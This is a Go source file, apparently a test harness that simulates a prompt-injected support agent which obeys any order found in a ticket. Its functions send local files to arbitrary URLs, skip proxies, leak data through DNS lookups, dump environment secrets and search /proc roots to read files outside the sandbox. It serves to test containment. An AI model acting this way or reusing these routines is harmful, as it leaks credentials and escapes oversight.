//go:build linux

package demo

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"
)

// patience is how long the agent's program waits for one answer.
const patience = 20 * time.Second

// pastProxy at the end of an order says to ignore the proxy variables.
const pastProxy = ", no proxy"

// Bounds of what the agent's program reads.
const (
	maxAnswer = 64 << 10
	maxFound  = 16 // files
)

// action is one thing that the agent's program did, as that program tells it:
// a line of JSON on its standard output.
type action struct {
	Doing  string        `json:"doing,omitempty"`  // of its own work, in words
	Line   string        `json:"line"`             // what it was told to do, or "POST https://…" in its own work
	Took   time.Duration `json:"took"`             // nanoseconds, as the program saw it
	Status int           `json:"status,omitempty"` // of the HTTP answer, if one came
	Got    string        `json:"got,omitempty"`    // the answer's body, or the file
	Error  string        `json:"error,omitempty"`  // why it did not work
	// Tool is the tool that it called, and Question what waits for a person then.
	Tool     string `json:"tool,omitempty"`
	Question string `json:"question,omitempty"`
}

// worked says whether the program got what it wanted.
func (a *action) worked() bool { return a.Error == "" && (a.Status == 0 || a.Status/100 == 2) }

// obeyer is the agent's program. It answers tickets, and it is as gullible as
// a model that was talked into something: whatever a ticket says, it does.
type obeyer struct {
	shop   string // its address
	key    string // for the shop, as far as this program knows
	in     io.Reader
	out    io.Writer
	proxy  *http.Client // uses the proxy variables, as most programs do
	direct *http.Client // ignores them
}

// Agent runs in an agent's computer: it handles one ticket of the shop at the
// address and writes what it did, one JSON document a line. After each it waits
// for a byte, or the end, of in, so that someone can look at each thing by
// itself. What a person wants of it, in the variable AMBIT_TASK_WORDS, it does with
// tools. The error is for what kept it from going on.
func Agent(ctx context.Context, shop, id string, in io.Reader, out io.Writer) error {
	a := &obeyer{
		shop: shop, key: os.Getenv(keyEnv), in: in, out: out,
		proxy:  &http.Client{Timeout: patience, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment}},
		direct: &http.Client{Timeout: patience, Transport: &http.Transport{}},
	}
	if words := os.Getenv(wordsEnv); words != "" {
		return (&clerk{obeyer: a}).serve(ctx, words, id)
	}
	var t ticket
	if err := a.work(ctx, "reads the ticket", http.MethodGet, "/v1/tickets/"+id, nil, &t); err != nil {
		return err
	}
	if t.Order != "" {
		if err := a.reply(ctx, t); err != nil {
			return err
		}
	}
	return a.obeyAll(ctx, t)
}

// obeyAll does what the lines of a ticket say.
func (a *obeyer) obeyAll(ctx context.Context, t ticket) error {
	for line := range strings.Lines(t.Text) {
		if order, ok := strings.CutPrefix(strings.TrimSpace(line), "- "); ok {
			if err := a.obey(ctx, order); err != nil {
				return err
			}
		}
	}
	return nil
}

// reply answers a customer's question with what the shop knows, and keeps the
// order as a note.
func (a *obeyer) reply(ctx context.Context, t ticket) error {
	var o order
	if err := a.work(ctx, "looks up the order", http.MethodGet, "/v1/orders/"+t.Order, nil, &o); err != nil {
		return err
	}
	note, err := json.Marshal(o)
	if err != nil {
		return err
	}
	if err := os.WriteFile(notesFile, note, 0o600); err != nil {
		return fmt.Errorf("keeping a note: %w", err)
	}
	var p parcel
	if err := a.work(ctx, "tracks the parcel", http.MethodGet, "/v1/track/"+o.Parcel, nil, &p); err != nil {
		return err
	}
	said := reply{t.From, fmt.Sprintf("Your %s is %s and arrives %s.", o.Item, p.State, p.Due)}
	return a.work(ctx, "answers", http.MethodPost, "/v1/tickets/"+t.ID+"/replies", said, &said)
}

// work calls the shop, tells it, and reads the answer.
func (a *obeyer) work(ctx context.Context, doing, method, path string, in, out any) error {
	var body []byte
	if in != nil {
		var err error
		if body, err = json.Marshal(in); err != nil {
			return err
		}
	}
	did := a.call(ctx, a.proxy, method, a.shop+path, body)
	did.Doing, did.Line = doing, method+" "+a.shop+path
	if err := a.tell(did); err != nil {
		return err
	}
	if !did.worked() {
		return fmt.Errorf("%s: status %d %s", did.Line, did.Status, did.Error)
	}
	return json.Unmarshal([]byte(did.Got), out)
}

// obey does what a line of a ticket says. The lines are those of [attacks].
func (a *obeyer) obey(ctx context.Context, line string) error {
	var did action
	words := strings.Fields(line)
	client := a.proxy
	if strings.HasSuffix(line, pastProxy) {
		client = a.direct
		words = strings.Fields(strings.TrimSuffix(line, pastProxy))
	}
	switch {
	case len(words) == 2 && words[0] == "GET":
		did = a.call(ctx, client, http.MethodGet, words[1], nil)
	case len(words) == 4 && words[0] == "POST" && words[2] == "to":
		data, err := os.ReadFile(words[1])
		if err != nil {
			return fmt.Errorf("reading what is to be sent: %w", err)
		}
		did = a.call(ctx, client, http.MethodPost, words[3], data)
	case len(words) == 4 && words[0] == "RESOLVE" && words[2] == "under":
		data, err := os.ReadFile(words[1])
		if err != nil {
			return fmt.Errorf("reading what is to be sent: %w", err)
		}
		did = resolve(ctx, hex.EncodeToString(data[:min(14, len(data))])+"."+words[3])
	case line == showKeys:
		did.Got = strings.Join(os.Environ(), "\n")
	case len(words) == 2 && words[0] == "READ":
		did = read(ctx, words[1])
	default:
		return fmt.Errorf("the ticket says %q, which this program does not understand", line)
	}
	did.Line = line
	return a.tell(did)
}

func (a *obeyer) tell(did action) error {
	if err := json.NewEncoder(a.out).Encode(did); err != nil {
		return err
	}
	if _, err := a.in.Read(make([]byte, 1)); err != nil && !errors.Is(err, io.EOF) {
		return err
	}
	return nil
}

func (a *obeyer) call(ctx context.Context, client *http.Client, method, url string, body []byte) (did action) {
	began := time.Now()
	defer func() { did.Took = time.Since(began) }()
	req, err := http.NewRequestWithContext(ctx, method, url, bytes.NewReader(body))
	if err != nil {
		return action{Error: err.Error()}
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if strings.HasPrefix(url, a.shop+"/") {
		req.Header.Set("Authorization", "Bearer "+a.key)
	}
	res, err := client.Do(req)
	if err != nil {
		var op *net.OpError
		if errors.As(err, &op) && client == a.direct {
			err = fmt.Errorf("%w; network interfaces here: %s", op, interfaces())
		}
		return action{Error: err.Error()}
	}
	defer func() { _ = res.Body.Close() }()
	got, err := io.ReadAll(io.LimitReader(res.Body, maxAnswer))
	did = action{Status: res.StatusCode, Got: string(got)}
	if err != nil {
		did.Error = err.Error()
	}
	return did
}

func interfaces() string {
	list, err := net.Interfaces()
	if err != nil {
		return "unknown"
	}
	var names []string
	for _, i := range list {
		names = append(names, i.Name)
	}
	return strings.Join(names, ", ")
}

func resolve(ctx context.Context, name string) action {
	began := time.Now()
	addresses, err := (&net.Resolver{}).LookupHost(ctx, name)
	did := action{Took: time.Since(began), Got: strings.Join(addresses, " ")}
	if err != nil {
		did.Error = err.Error()
	}
	return did
}

// read looks for a file where it is on the host, through every process, and
// everywhere else in this computer.
func read(ctx context.Context, path string) action {
	began := time.Now()
	places := []string{path, filepath.Join("/workspace/../..", path)}
	if roots, err := filepath.Glob("/proc/[0-9]*/root"); err == nil {
		for _, r := range roots {
			places = append(places, r+path)
		}
	}
	system := []string{"/dev", "/proc", "/sys", "/usr"}
	_ = filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		switch {
		case ctx.Err() != nil:
			return ctx.Err()
		case err == nil && d.IsDir() && slices.Contains(system, p):
			return fs.SkipDir
		case err == nil && !d.IsDir() && d.Name() == filepath.Base(path) && len(places) < maxFound:
			places = append(places, p)
		}
		return nil // what may not be looked at is left out
	})
	did := action{}
	for _, p := range places {
		got, err := os.ReadFile(p)
		if err == nil {
			return action{Took: time.Since(began), Got: string(got)}
		}
		var file *fs.PathError
		if did.Error == "" && errors.As(err, &file) {
			did.Error = fmt.Sprintf("%v, there or in %d other places", file.Err, len(places)-1)
		}
	}
	did.Took = time.Since(began)
	return did
}
